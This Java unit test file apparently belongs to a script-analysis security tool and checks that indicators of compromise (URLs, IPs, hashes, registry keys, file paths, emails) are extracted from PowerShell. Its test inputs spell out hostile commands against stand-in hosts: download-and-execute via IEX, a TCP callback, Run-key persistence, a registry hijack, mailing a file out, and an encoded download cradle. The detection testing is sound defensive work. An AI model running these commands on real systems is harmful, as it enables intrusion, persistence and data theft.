package dev.vigil.copilot.script;

import static org.assertj.core.api.Assertions.assertThat;

import dev.vigil.copilot.script.Indicator.Type;
import org.junit.jupiter.api.Test;

/** The indicators of compromise a script names, each once, with the statement it came from. */
class IndicatorsTest {
    private final ScriptAnalyzer analyzer = new ScriptAnalyzer();

    @Test
    void everyKindOfIndicatorIsFoundInTheDecodedScript() {
        String script = String.join("\n",
                "IEX (New-Object Net.WebClient).DownloadString('http://evil.example.com/a.ps1')",
                "$backup = 'hxxps://drop[.]example[.]net/b.zip'",
                "$c2 = New-Object Net.Sockets.TCPClient('198.51.100.23', 443)",
                "Invoke-WebRequest -Uri http://[2001:db8::1]:8080/x -OutFile C:\\Users\\Public\\x.exe",
                "copy \\\\fileserver.corp.example.org\\share\\tool.exe \"C:\\Program Files\\Common Files\\tool.exe\"",
                "reg add \"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\" /v tool /d C:\\Users\\Public\\x.exe",
                "Set-ItemProperty -Path HKCU:\\Software\\Classes\\ms-settings\\shell\\open\\command -Name x -Value y",
                "$hashes = '44d88612fea8a8f36de82e1278abb02f', '3395856ce81f2b7382dee72602f798b642f14140',"
                        + " '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f'",
                "Send-MailMessage -To exfil@evil.example.com -Attachments $env:TEMP\\out.txt");

        ScriptAnalysis analysis = analyzer.analyze(script);

        assertThat(analysis.indicatorValues(Type.URL)).containsExactly("http://evil.example.com/a.ps1",
                "https://drop.example.net/b.zip", "http://[2001:db8::1]:8080/x");
        assertThat(analysis.indicatorValues(Type.DOMAIN)).containsExactly("evil.example.com", "drop.example.net",
                "fileserver.corp.example.org");
        assertThat(analysis.indicatorValues(Type.IPV4)).containsExactly("198.51.100.23");
        assertThat(analysis.indicatorValues(Type.IPV6)).containsExactly("2001:db8::1");
        assertThat(analysis.indicatorValues(Type.FILE_PATH)).containsExactly("C:\\Users\\Public\\x.exe",
                "C:\\Program Files\\Common Files\\tool.exe", "\\\\fileserver.corp.example.org\\share\\tool.exe",
                "$env:TEMP\\out.txt");
        assertThat(analysis.indicatorValues(Type.REGISTRY_KEY)).containsExactly(
                "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
                "HKCU\\Software\\Classes\\ms-settings\\shell\\open\\command");
        assertThat(analysis.indicatorValues(Type.MD5)).containsExactly("44d88612fea8a8f36de82e1278abb02f");
        assertThat(analysis.indicatorValues(Type.SHA1)).containsExactly("3395856ce81f2b7382dee72602f798b642f14140");
        assertThat(analysis.indicatorValues(Type.SHA256))
                .containsExactly("275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f");
        assertThat(analysis.indicatorValues(Type.EMAIL)).containsExactly("exfil@evil.example.com");
    }

    @Test
    void eachIndicatorNamesTheFirstStatementItWasFoundIn() {
        ScriptAnalysis analysis = analyzer.analyze(
                "$u = 'http://evil.example.com/a.ps1'; iwr $u -OutFile a.ps1; iwr http://evil.example.com/a.ps1");

        assertThat(analysis.indicators()).filteredOn(indicator -> indicator.type() == Type.URL).singleElement()
                .isEqualTo(new Indicator(Type.URL, "http://evil.example.com/a.ps1", "$u = 'http://evil.example.com/a.ps1'"));
    }

    @Test
    void indicatorsHiddenByObfuscationAreFoundOnceDecoded() {
        String hidden = "(New-Object Net.WebClient).DownloadString('http://' + '203.0.113.9' + '/s.ps1') | iex";

        ScriptAnalysis analysis = analyzer.analyze("powershell -enc " + Obfuscate.encodedCommand(hidden));

        assertThat(analysis.indicatorValues(Type.URL)).containsExactly("http://203.0.113.9/s.ps1");
        assertThat(analysis.indicatorValues(Type.IPV4)).containsExactly("203.0.113.9");
    }
}
